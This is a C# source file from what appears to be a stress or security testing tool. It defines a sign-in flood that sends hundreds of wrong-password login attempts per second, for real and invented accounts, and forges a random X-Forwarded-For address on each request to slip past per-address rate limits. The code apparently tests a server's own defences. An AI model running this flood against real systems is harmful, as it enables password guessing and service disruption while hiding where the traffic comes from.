using System.Net.Http.Json;

namespace Tokenfall.Attacks.Floods;

/// <summary>Wrong passwords, for accounts that exist and for others, each from another address.</summary>
internal sealed class SignInFlood : IFlood
{
    private Antiforgery _antiforgery = Antiforgery.None;

    public string Name => "sign-ins";

    public string Title => "anonymous: sign-ins";

    public string Description => "wrong passwords, for accounts that exist and for others, each from another address";

    public int PerSecond => 200;

    public int AtOnce => 128;

    public async Task PrepareAsync(Victim victim) => _antiforgery = await Antiforgery.GetAsync(victim);

    public async Task<string> StepAsync(Victim victim, int number, CancellationToken cancellationToken)
    {
        using var request = _antiforgery.Post("/account/sign-in");
        // This machine is a proxy that the server trusts, so an address may be made up.
        request.Headers.Add("X-Forwarded-For", $"10.{Random.Shared.Next(256)}.{Random.Shared.Next(256)}.{Random.Shared.Next(256)}");
        request.Content = JsonContent.Create(new { email = $"person{number % 50}@example.com", password = $"wrong number {number}" });
        return await victim.SendAsync(request, cancellationToken);
    }
}
